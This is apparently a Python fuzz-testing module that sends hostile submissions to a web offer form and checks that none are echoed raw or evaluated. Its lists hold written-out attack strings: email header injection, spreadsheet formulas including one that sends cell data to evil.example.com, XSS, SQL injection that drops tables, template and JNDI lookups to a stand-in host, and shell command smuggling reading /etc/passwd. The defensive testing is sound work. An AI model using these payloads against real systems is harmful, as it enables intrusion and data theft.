"""Submissions of the offer form that nobody would type: known attacks, odd signs, odd shapes, and real ones among them.

Needs neither Django nor a database, so that it can be aimed at a test client as at a running server.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html import escape
from random import Random
from urllib.parse import urlencode

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

PRODUCT = "982007569"  # what a template would make of {{ 31337*31337 }}
HEADERS = [
    "Pat\r\nBcc: victim@example.com",
    "pat@example.com\r\nBcc: victim@example.com",
    "pat@example.com\nSubject: hello",
    "pat@example.com%0d%0aBcc:victim@example.com",
    "Pat\u2028Bcc: victim@example.com",
    "pat@example.com, victim@example.com",
    '"Pat" <victim@example.com>',
    "=?utf-8?q?Pat=0d=0aBcc:_victim@example.com?=",
    "pat@example.com\x0bBcc: victim@example.com",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example.com/?"&A1,"Pat")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1 Pat",
    "Pat,=1+1",
    'Pat";=1+1;"',
    "'=1+1 Pat",
]
MARKUP = [
    "<script>alert(31337)</script>",
    "</textarea><script>alert(31337)</script>",
    '"><img src=x onerror=alert(31337)>',
    "' onmouseover='alert(31337)",
    '" autofocus onfocus="alert(31337)',
    "<svg/onload=alert(31337)>",
    "<a href='javascript:alert(31337)'>Pat</a>",
    "<!-- Pat --><b>Pat</b>",
    "</title><script>alert(31337)</script>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(31337)</script>'>",
    "&lt;script&gt;alert(31337)&lt;/script&gt;<i>",
    "＜script＞alert(31337)＜/script＞",
    "<scr\x00ipt>alert(31337)</script>",
    "Pat\\u003cscript\\u003e <b>",
]
DATABASE = [
    "'; DROP TABLE offers_lead; --",
    "' OR '1'='1",
    "Robert'); DELETE FROM offers_lead;--",
    "1 UNION SELECT password FROM auth_user",
    "\\'; SELECT pg_sleep(5); --",
    "%' AND 1=CAST((SELECT 1) AS int) --",
]
TEMPLATES = [
    "{{ 31337*31337 }} Pat",
    "{% debug %} Pat",
    "{% include '/etc/passwd' %} Pat",
    "{{ clinic.SECRET_KEY }}{{ request.META }} Pat",
    "${31337*31337} Pat",
    "<%= 31337*31337 %> Pat",
    "#{31337*31337} Pat",
    "{0.__class__.__mro__} %(name)s %n%s Pat",
    "${jndi:ldap://evil.example.com/a} Pat",
    "$(touch /tmp/pwned) `id` ; cat /etc/passwd | Pat",
    "../../../../etc/passwd",
]
SIGNS = [
    "Pat\x00Example",
    "\x00",
    "Pat\u202eelpmaxE",
    "\u2066Pat\u2069 Example",
    "\u200f\u200ePat",
    "\ufeffPat",
    "P\u200ba\u200bt\u200b",
    "\x1b[31mPat\x1b[0m",
    "Pat\x85Example",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 8,
    "\ufdfa" * 90,  # each is eighteen letters when it is normalised
    "e\u0301" * 50,
    "\ud800Pat",  # half a character
    "\udcff\udcfe",  # bytes that are no text
    "\U000e0041\U000e0042Pat",
    "👩‍👩‍👧‍👦" * 20,
    "İstanbul ßharp ǆ ﬁ ①②③ ½",
    "٢١٢٥٥٥٠١٢٣",
    "２１２　５５５　０１２３",
]
LARGE = ["A" * 900_000, "é" * 200_000, "\ufdfa" * 100_000, " " * 900_000, "<b>" * 250_000]
ATTACKS = [*HEADERS, *FORMULAS, *MARKUP, *DATABASE, *TEMPLATES, *SIGNS]

FIELDS = (
    *("name", "phone", "email", "contact_by", "region", "note"),
    *(
        "form_key",
        "opened",
        "more",
        "trail",
        "seen",
        "asked_about",
        "take_meant",
        "text_consent",
        "news_consent",
    ),
)
EXTRA = (  # nobody asks for these
    *(
        "stage",
        "code",
        "token",
        "offer",
        "id",
        "pk",
        "lead",
        "is_test",
        "doubts",
        "created_at",
        "redeemed_at",
    ),
    *(
        "redeemed_by",
        "merged_into",
        "erased_at",
        "came_by",
        "owner",
        "csrfmiddlewaretoken_",
        "__proto__",
        "name[]",
    ),
)
Pairs = list[tuple[str, str]]


@dataclass(frozen=True)
class Submission:
    pairs: Pairs
    address: str  # of the sender: each has an own one
    mail: str = ""  # of a real one

    def body(self, **hidden: str) -> bytes:
        """As a browser sends it; `hidden` are fields of the page that the submission does not forge."""
        own = {name for name, _ in self.pairs}
        pairs = [*self.pairs, *((name, value) for name, value in hidden.items() if name not in own)]
        return urlencode(pairs, errors="surrogatepass").encode()

    def raw_in(self, page: str) -> list[str]:
        """What was sent with signs of markup and stands on the page as it was sent."""
        sent = (value for _, value in self.pairs if len(value) > 5 and escape(value) != value)
        return [value for value in sent if value in page]


def base(number: int) -> dict[str, str]:
    return {
        "name": f"Real Person {number}",
        "phone": "",
        "email": f"real{number}@example.com",
        "contact_by": "email",
        "region": "other",
        "note": "Mornings are good.",
    }


odd_text = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from(ATTACKS),
    st.text(max_size=120),
    st.text(st.characters(), min_size=90, max_size=600),
    st.builds("{0} {1} {0}".format, st.sampled_from(["Pat", "left hip", "5 p.m."]), st.sampled_from(ATTACKS)),
)


@st.composite
def odd_pairs(draw: st.DrawFn) -> Pairs:
    """A real submission with one or more fields spoiled, left out, repeated or made up."""
    fields = base(0)
    for name in draw(st.lists(st.sampled_from(FIELDS), min_size=1, max_size=4, unique=True)):
        fields[name] = draw(odd_text)
    pairs = list(fields.items())
    if draw(st.booleans()):
        pairs.append((draw(st.sampled_from((*FIELDS, *EXTRA))), draw(odd_text)))
    if draw(st.integers(0, 5)) == 5:
        pairs.remove(draw(st.sampled_from(pairs)))
    if draw(st.integers(0, 40)) == 40:
        pairs.append((draw(st.sampled_from(FIELDS[:6])), draw(st.sampled_from(LARGE))))
    return pairs


def submissions(n: int, seed_: int, real_every: int = 8) -> Iterator[Submission]:
    """`n` of them, the same for the same seed: attacks in the name, the note and the mail, and made-up ones."""
    known = [[*{**base(0), name: attack}.items()] for attack in ATTACKS for name in ("name", "note", "email")]
    chance = Random(seed_)
    chance.shuffle(known)
    odd = [*known[: n // 2], *_made_up(n - min(n // 2, len(known)), seed_)]
    chance.shuffle(odd)
    for number in range(n):
        address = f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"
        if number % real_every == 0:
            mine = base(number)
            yield Submission(list(mine.items()), address, mine["email"])
        else:
            yield Submission(odd[number % len(odd)], address)


def _made_up(n: int, seed_: int) -> list[Pairs]:
    found: list[Pairs] = []

    @seed(seed_)
    @settings(
        max_examples=n,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(odd_pairs())
    def collect(pairs: Pairs) -> None:
        found.append(pairs)

    if n:
        collect()
    return found


@dataclass
class Outcome:
    """What became of an attack. `faults` and `lost` have to be empty."""

    sent: int = 0
    taken: int = 0
    faults: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)
    tickets: dict[str, str] = field(default_factory=dict)  # mail of a real one -> address of its ticket


def attack(post: Callable[[Submission], tuple[int, str, str]], n: int, seed_: int) -> Outcome:
    """Send `n` submissions by `post`, which returns the status, the address it leads on to, and the page."""
    outcome = Outcome()
    for submission in submissions(n, seed_):
        status, location, page = post(submission)
        outcome.sent += 1
        outcome.taken += status == 302
        told = f"{status} for {str(submission.pairs)[:500]}"
        if status not in {200, 302, 400, 413}:
            outcome.faults.append(told)
        if submission.raw_in(page) or PRODUCT in page:
            outcome.faults.append(f"raw: {told}")
        if submission.mail and status == 302:
            outcome.tickets[submission.mail] = location
        elif submission.mail:
            outcome.lost.append(told)
    return outcome
